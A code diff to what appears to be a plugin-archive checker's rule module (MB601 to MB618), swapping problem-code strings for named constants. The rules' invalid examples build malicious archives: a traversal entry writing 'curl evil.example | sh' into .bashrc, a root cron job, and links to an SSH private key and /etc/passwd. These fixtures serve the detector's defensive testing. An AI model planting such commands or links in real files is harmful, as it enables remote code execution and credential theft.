@@ -1,7 +1,9 @@
 """Archive rules (MB6xx): what :mod:`mbcheck.archive.inspect` finds in a plugin archive.
 
-The archive inspection reports problems with its own codes (``MBA0nn``);
-each maps to the rule ``MB6nn`` here, which documents it. The findings are
+The archive inspection reports problems with its own codes (``MBA0nn``,
+written once in :mod:`mbcheck.archive.problems`); each rule here names the
+problem it documents (``problem = PATH_TRAVERSAL``), which is the only
+mapping from a problem to its rule ``MB6nn`` (:data:`RULES`). The findings are
 made before any file of the archive is analysed (nothing is ever extracted)
 and concern the archive as a whole; the entry's name is in the message.
 
@@ -17,6 +19,26 @@ from __future__ import annotations
 from collections.abc import Callable, Iterable, Mapping, Sequence
 from typing import TYPE_CHECKING, ClassVar, overload
 
+from mbcheck.archive.problems import (
+    ABSOLUTE_PATH,
+    AMBIGUOUS_FORMAT,
+    ARCHIVE_TOO_LARGE,
+    COMPRESSION_RATIO,
+    DUPLICATE_NAME,
+    ENCRYPTED,
+    HARD_LINK,
+    INCONSISTENT_ENTRY,
+    MEMBER_TOO_LARGE,
+    MULTIPLE_ROOTS,
+    OVERLAPPING_ENTRIES,
+    PATH_TRAVERSAL,
+    SPECIAL_FILE,
+    SYMLINK,
+    TOO_MANY_MEMBERS,
+    UNREADABLE,
+    UNSAFE_NAME,
+    UNSUPPORTED_COMPRESSION,
+)
 from mbcheck.model import Category, Confidence, Finding, Severity, Span
 from mbcheck.rules.base import Example, Rule, Valid
 
@@ -83,7 +105,7 @@ class UnreadableArchive(ArchiveRule):
 
     code = "MB601"
     name = "unreadable-archive"
-    problem = "MBA001"
+    problem = UNREADABLE
     VALID = Examples(lambda make: (make.fine, make.fine_tar))
     INVALID = Examples(lambda make: (make.flagged(make.clean[: len(make.clean) // 2]), make.flagged(b"just some text", "example.tar.gz")))
 
@@ -99,7 +121,7 @@ class ArchivePathTraversal(ArchiveRule):
 
     code = "MB602"
     name = "archive-path-traversal"
-    problem = "MBA002"
+    problem = PATH_TRAVERSAL
     VALID = Examples(lambda make: (make.fine, Valid(archive=make.zip([*make.plugin(), ("./example/notes..txt", b"dots inside a name are fine")]))))
     INVALID = Examples(lambda make: (make.flagged(make.zip([*make.plugin(), ("../../.bashrc", b"curl evil.example | sh\n")])),))
 
@@ -114,7 +136,7 @@ class ArchiveAbsolutePath(ArchiveRule):
 
     code = "MB603"
     name = "archive-absolute-path"
-    problem = "MBA003"
+    problem = ABSOLUTE_PATH
     INVALID = Examples(lambda make: (make.flagged(make.zip([*make.plugin(), ("/etc/cron.d/example", b"* * * * * root sh\n")])),))
 
 
@@ -129,7 +151,7 @@ class ArchiveUnsafeName(ArchiveRule):
 
     code = "MB604"
     name = "archive-unsafe-name"
-    problem = "MBA004"
+    problem = UNSAFE_NAME
     INVALID = Examples(lambda make: (make.flagged(make.zip([*make.plugin(), ("example\\cli.py", b"print(1)\n")])),))
 
 
@@ -143,7 +165,7 @@ class ArchiveSymlink(ArchiveRule):
 
     code = "MB605"
     name = "archive-symlink"
-    problem = "MBA005"
+    problem = SYMLINK
     VALID = Examples(lambda make: (make.fine, Valid(archive=make.zip([*make.plugin(), ("example/config.py", b"GREETING = 'hello'\n")]))))
     INVALID = Examples(lambda make: (make.flagged(make.zip([*make.plugin(), (make.symlink("example/config.py"), b"/home/user/.ssh/id_rsa")])),))
 
@@ -158,7 +180,7 @@ class ArchiveHardLink(ArchiveRule):
 
     code = "MB606"
     name = "archive-hard-link"
-    problem = "MBA006"
+    problem = HARD_LINK
     VALID = Examples(lambda make: (make.fine_tar,))
     INVALID = Examples(lambda make: (make.flagged(make.tar_plugin(("example/config.py", make.LNKTYPE, b"", "/etc/passwd")), "example.tar.gz"),))
 
@@ -173,7 +195,7 @@ class ArchiveSpecialFile(ArchiveRule):
 
     code = "MB607"
     name = "archive-special-file"
-    problem = "MBA007"
+    problem = SPECIAL_FILE
     VALID = Examples(lambda make: (make.fine_tar,))
     INVALID = Examples(lambda make: (make.flagged(make.tar_plugin(("example/pipe", make.FIFOTYPE, b"", "")), "example.tar.gz"),))
 
@@ -188,7 +210,7 @@ class ArchiveDuplicateName(ArchiveRule):
 
     code = "MB608"
     name = "archive-duplicate-name"
-    problem = "MBA008"
+    problem = DUPLICATE_NAME
     VALID = Examples(lambda make: (make.fine, Valid(archive=make.plain)))
     INVALID = Examples(lambda make: (
         make.flagged(make.zip([*make.plugin(), ("example/cli.py", b"print('checked')\n"), ("example/CLI.py", b"print('run')\n")])),
@@ -205,7 +227,7 @@ class ArchiveEncryptedEntry(ArchiveRule):
 
     code = "MB609"
     name = "archive-encrypted-entry"
-    problem = "MBA009"
+    problem = ENCRYPTED
     INVALID = Examples(lambda make: (make.flagged(make.patched(make.plain, "example/cli.py", flag_bits=0x1)),))
 
 
@@ -219,7 +241,7 @@ class ArchiveTooManyMembers(ArchiveRule):
 
     code = "MB610"
     name = "archive-too-many-members"
-    problem = "MBA010"
+    problem = TOO_MANY_MEMBERS
     # the end record declares the members: a zip really holding 10,001 would weigh a megabyte
     INVALID = Examples(lambda make: (make.flagged(make.declaring_members(make.clean, 10_001)),))
 
@@ -233,7 +255,7 @@ class ArchiveMemberTooLarge(ArchiveRule):
 
     code = "MB611"
     name = "archive-member-too-large"
-    problem = "MBA011"
+    problem = MEMBER_TOO_LARGE
     INVALID = Examples(lambda make: (make.flagged(make.declared({"example/model.bin": 60 * 1024 * 1024})),))
 
 
@@ -247,7 +269,7 @@ class ArchiveTooLarge(ArchiveRule):
 
     code = "MB612"
     name = "archive-too-large"
-    problem = "MBA012"
+    problem = ARCHIVE_TOO_LARGE
     INVALID = Examples(lambda make: (make.flagged(make.declared({f"example/data{i}.bin": 45 * 1024 * 1024 for i in range(5)})),))
 
 
@@ -262,7 +284,7 @@ class ArchiveCompressionRatio(ArchiveRule):
 
     code = "MB613"
     name = "archive-compression-ratio"
-    problem = "MBA013"
+    problem = COMPRESSION_RATIO
     # blank lines compress 1000:1 too, but a file under a megabyte is never judged by its ratio
     VALID = Examples(lambda make: (make.fine, Valid(archive=make.zip([*make.plugin(), ("example/blank.txt", b"\n" * 200_000)]))))
     INVALID = Examples(lambda make: (make.flagged(make.zip([*make.plugin(), ("example/data.bin", bytes(2 * 1024 * 1024))])),))
@@ -278,7 +300,7 @@ class ArchiveInconsistentEntry(ArchiveRule):
 
     code = "MB614"
     name = "archive-inconsistent-entry"
-    problem = "MBA014"
+    problem = INCONSISTENT_ENTRY
     INVALID = Examples(lambda make: (make.flagged(make.plain.replace(b"example/cli.py", b"example/evl.py", 1)),))
 
 
@@ -292,7 +314,7 @@ class ArchiveUnsupportedCompression(ArchiveRule):
 
     code = "MB615"
     name = "archive-unsupported-compression"
-    problem = "MBA015"
+    problem = UNSUPPORTED_COMPRESSION
     VALID = Examples(lambda make: (make.fine, Valid(archive=make.zip(make.plugin(), make.ZIP_STORED)), Valid(archive=make.zip(make.plugin(), make.ZIP_BZIP2))))
     INVALID = Examples(lambda make: (make.flagged(make.lzma_zip((str(name), data) for name, data in make.plugin())),))
 
@@ -307,7 +329,7 @@ class ArchiveOverlappingEntries(ArchiveRule):
 
     code = "MB616"
     name = "archive-overlapping-entries"
-    problem = "MBA016"
+    problem = OVERLAPPING_ENTRIES
     INVALID = Examples(lambda make: (make.flagged(make.patched(make.plain, "example/cli.py", local=False, header_offset=0)),))
 
 
@@ -321,7 +343,7 @@ class ArchiveMultipleRoots(ArchiveRule):
 
     code = "MB617"
     name = "archive-multiple-roots"
-    problem = "MBA017"
+    problem = MULTIPLE_ROOTS
     VALID = Examples(lambda make: (make.fine, Valid(archive=make.zip([("README.md", b"# example\n"), *make.plugin(), ("example/sub/__init__.py", b"")]))))
     INVALID = Examples(lambda make: (make.flagged(make.zip([*make.plugin("one"), *make.plugin("two")])),))
 
@@ -336,7 +358,7 @@ class ArchiveAmbiguousFormat(ArchiveRule):
 
     code = "MB618"
     name = "archive-ambiguous-format"
-    problem = "MBA018"
+    problem = AMBIGUOUS_FORMAT
     INVALID = Examples(lambda make: (
         make.flagged(b"#!/bin/sh\nexec python3 -m example\n" + make.clean),
         make.flagged(make.clean_tar + make.clean, "example.tar.gz"),
